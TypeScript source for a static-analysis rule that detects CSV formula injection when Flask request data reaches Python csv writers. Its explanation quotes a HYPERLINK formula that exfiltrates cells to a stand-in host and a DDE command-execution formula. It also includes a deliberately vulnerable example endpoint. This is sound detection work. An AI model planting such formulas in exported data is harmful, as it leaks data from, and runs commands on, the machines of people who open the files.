import {
  callsWhenInputPossible,
  defineRule,
  receiverOf,
  taintedSink,
  type CallInfo,
  type SemanticModel,
  type SyntaxNode,
} from '../../src/rules-api/index.js';

/** Writers of the standard `csv` module (and its Python 2 backport), which write cells as given. */
const CSV_WRITERS = new Set([
  'csv.writer',
  'csv.DictWriter',
  'unicodecsv.writer',
  'unicodecsv.DictWriter',
  'backports.csv.writer',
  'backports.csv.DictWriter',
]);

/** Writer methods that take one row or many. */
const ROW_METHODS = new Set(['writerow', 'writerows']);

/** The row a call writes, when it is `writerow`/`writerows` of a `csv` writer. */
function writtenRows(model: SemanticModel, call: CallInfo): SyntaxNode | undefined {
  if (call.methodName === undefined || !ROW_METHODS.has(call.methodName)) return undefined;
  const receiver = receiverOf(call);
  const maker = receiver === undefined ? undefined : model.constructedBy(receiver);
  if (maker === undefined || !CSV_WRITERS.has(maker)) return undefined;
  return call.positional[0] ?? call.keywords.get(call.methodName === 'writerow' ? 'row' : 'rows');
}

export default defineRule({
  meta: {
    id: 'PGI046',
    slug: 'csv-formula-injection',
    title: 'CSV cells written from request data',
    category: 'injection',
    severity: 'medium',
    confidence: 'high',
    cwe: [1236],
    owasp: ['A03:2021 Injection'],
    description:
      'Flags request data that reaches a row written by a `csv.writer` or `csv.DictWriter` (`writerow`, `writerows`) without being made safe, for example a report or export built from submitted form fields.',
    why: 'Spreadsheet programs read a cell that starts with `=`, `+`, `-` or `@` as a formula. A value such as `=HYPERLINK("https://evil.example/?"&A1,"Details")` sent by one user and exported for another leaks the sheet\'s data when clicked, and older Excel versions run commands through DDE formulas (`=cmd|\' /C calc\'!A0`). The CSV file itself is valid; the attack happens when someone opens it.',
    fix: 'Neutralise cells before writing them: prefix a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return with a single quote, or write through `defusedcsv`, a drop-in `csv` replacement that does so. Convert numeric fields with `int()`/`float()`.',
    example: {
      bad: 'import csv\n\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n\n@app.post("/feedback")\ndef feedback():\n    with open("feedback.csv", "a", newline="") as handle:\n        writer = csv.writer(handle)\n        writer.writerow([request.form["name"], request.form["comment"]])\n    return "thanks"\n',
      good: 'from defusedcsv import csv\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n\n@app.post("/feedback")\ndef feedback():\n    with open("feedback.csv", "a", newline="") as handle:\n        writer = csv.writer(handle)\n        writer.writerow([request.form["name"], request.form["comment"]])\n    return "thanks"\n',
    },
    references: [
      'https://cwe.mitre.org/data/definitions/1236.html',
      'https://owasp.org/www-community/attacks/CSV_Injection',
      'https://pypi.org/project/defusedcsv/',
    ],
    bandit: [],
    ruff: [],
  },
  messages: {
    taintedRow:
      "`{{sink}}` writes {{origin}} into a CSV file: {{path}}. A cell starting with `=`, `+`, `-` or `@` runs as a formula when the file is opened in a spreadsheet; prefix such cells with `'` or write through `defusedcsv`.",
  },
  select: { methods: [...ROW_METHODS] },
  create(context) {
    const { model } = context;
    return callsWhenInputPossible(context, (node, call) => {
      const rows = writtenRows(model, call);
      if (rows === undefined) return;
      const sink = context.textOf(call.callee);
      const tainted = taintedSink(context, rows, 'csv', node, sink);
      // Whoever runs a command-line export opens the file themselves: request data only.
      if (tainted === undefined || tainted.trace.trust !== 'web') return;
      context.report({
        node,
        messageId: 'taintedRow',
        data: { sink, origin: tainted.origin, path: tainted.path },
        severity: tainted.severity === 'high' ? 'medium' : 'low',
        confidence: tainted.confidence,
        flow: tainted.flow,
      });
    });
  },
});
